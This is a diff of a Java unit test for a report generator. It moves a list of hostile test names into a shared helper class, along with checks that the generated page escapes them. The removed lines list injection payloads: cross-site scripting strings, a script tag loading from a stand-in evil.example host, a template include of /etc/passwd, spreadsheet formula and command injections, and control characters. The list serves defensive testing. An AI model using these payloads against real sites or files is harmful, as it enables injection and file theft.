@@ -9,7 +9,6 @@ import com.networknt.schema.SpecVersion;
 import java.io.IOException;
 import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
-import java.util.ArrayList;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Map;
@@ -31,30 +30,6 @@ import org.junit.jupiter.api.Test;
 final class ReportFolderTest {
   private static final ObjectMapper JSON = new ObjectMapper();
   private static final Pattern FIGURE = Pattern.compile("<data value=\"([^\"]*)\">");
-
-  /** Tags that a page of ours has; none of them can load, run or send anything. */
-  private static final Set<String> TAGS =
-      Set.of(
-          "html head meta title style body a header h1 h2 p main section nav ul li figure svg desc"
-              .concat(" path rect text figcaption div table caption thead tbody tr th td data bdi")
-              .concat(" span code")
-              .split(" "));
-
-  private static final List<String> HOSTILE =
-      List.of(
-          "<script>alert(1)</script>",
-          "\"><img src=x onerror=alert(1)>",
-          "'/><svg onload=alert(1)>",
-          "</style><style>body{display:none}",
-          "</title></svg><script src=//evil.example/x></script>",
-          "{{ report }}{% include '/etc/passwd' %}",
-          "=HYPERLINK(\"http://evil.example\";\"x\")",
-          "@SUM(1+1)*cmd|' /C calc'!A0",
-          "\u202Eevil\u202C\u200B\u0000\u0007",
-          "a\r\nb\t\"c\",d",
-          "n".repeat(10_000),
-          "\uD83D\uDE00".repeat(400),
-          "url(javascript:alert(1))");
 
   private static SortedMap<String, byte[]> files(Facts facts) {
     return ReportFolder.of(Reports.regulator(facts));
@@ -91,7 +66,7 @@ final class ReportFolderTest {
 
   @Test
   void everyFigureOfThePageIsInTheJsonAndTheJsonIsWhatItsSchemaAndTheCsvSay() throws IOException {
-    for (String name : HOSTILE) {
+    for (String name : Hostile.NAMES) {
       Report report = Reports.regulator(HandMade.named(name));
       SortedMap<String, byte[]> files = ReportFolder.of(report);
       JsonNode json = JSON.readTree(files.get("report.json"));
@@ -164,20 +139,9 @@ final class ReportFolderTest {
 
   @Test
   void namesFromOutsideAreTextWhateverTheySay() {
-    for (String name : HOSTILE) {
+    for (String name : Hostile.NAMES) {
       String page = text(files(HandMade.named(name)), ReportFolder.PAGE);
-      Matcher tags = Pattern.compile("<\\s*/?\\s*([A-Za-z!][^\\s/>]*)").matcher(page);
-      List<String> seen = new ArrayList<>();
-      while (tags.find()) {
-        seen.add(tags.group(1));
-      }
-      assertThat(seen).as(name).allMatch(tag -> TAGS.contains(tag) || tag.equals("!DOCTYPE"));
-      assertThat(page.codePoints().filter(c -> c == 0x202E || c == 0x200B || c < 10).count())
-          .as(name)
-          .isZero();
-      assertThat(Pattern.compile("<[^>]*\\son[a-z]+\\s*=").matcher(page).find()).as(name).isFalse();
-      assertThat(page).doesNotContain("n".repeat(200)).doesNotContain("root:");
-      assertThat(page.indexOf("<style>")).isEqualTo(page.lastIndexOf("<style>"));
+      Hostile.checkHarmless(page, name);
     }
     assertThat(text(files(HandMade.named("<b>&\"'")), ReportFolder.PAGE))
         .contains("Chat &lt;b&gt;&amp;&quot;&#39;");
